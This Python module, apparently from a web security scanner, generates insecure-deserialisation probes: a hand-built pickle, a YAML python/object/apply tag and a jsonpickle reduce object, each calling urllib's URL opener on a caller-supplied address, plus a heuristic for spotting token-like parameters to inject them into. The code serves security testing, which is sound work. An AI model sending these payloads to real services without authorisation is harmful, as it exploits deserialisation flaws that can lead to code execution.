"""Serialised objects that pay a visit when they are built, and do nothing else.

What is built of them is a call of the interpreter's own URL opener with an address of ours. For
languages whose objects pay no visit by their standard libraries alone there is no such proof, and
none is claimed.
"""

from __future__ import annotations

import base64
import json

from l7audit.target.schemas import Schema, type_of
from l7audit.target.words import says, words

OPAQUE = (
    "cursor", "token", "state", "session", "continuation", "page token", "next", "after", "before",
    "bookmark", "data", "payload", "blob", "object", "context", "snapshot", "marker", "position",
)  # fmt: skip


def looks_opaque(name: str, schema: Schema) -> bool:
    """Whether a parameter carries what the target itself has written."""
    if type_of(schema) not in {"", "string"} or schema.get("enum"):
        return False
    return says(words(name), *OPAQUE) or "contentEncoding" in schema


def as_opaque(url: str) -> dict[str, str]:
    """Values for parameters that carry encoded bytes."""
    pickled = _pickle(url)
    return {
        "pickle, base64url": base64.urlsafe_b64encode(pickled).decode().rstrip("="),
        "pickle, base64": base64.b64encode(pickled).decode(),
    }


def as_text(url: str) -> dict[str, str]:
    """Values for texts."""
    called = {"py/reduce": [{"py/function": "urllib.request.urlopen"}, {"py/tuple": [url]}]}
    return {
        "YAML": f'!!python/object/apply:urllib.request.urlopen ["{url}"]',
        "jsonpickle": json.dumps(called),
        "pickle": base64.b64encode(_pickle(url)).decode(),
    }


def _pickle(url: str) -> bytes:
    """A pickle of protocol 0: find the opener, push the address, call."""
    return f"curllib.request\nurlopen\n(V{url}\ntR.".encode()
